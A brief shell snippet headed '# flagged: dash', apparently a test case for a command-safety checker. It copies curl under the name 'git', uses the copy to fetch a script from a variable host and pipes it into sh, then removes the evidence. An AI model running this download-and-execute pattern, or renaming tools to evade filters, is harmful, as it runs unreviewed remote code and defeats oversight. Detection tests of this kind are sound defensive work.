# flagged: dash
mkdir -p /tmp/own-git
cp "$(command -v curl)" /tmp/own-git/git
/tmp/own-git/git -s "$RG_HTTP/hello.sh" | sh
rm -r /tmp/own-git
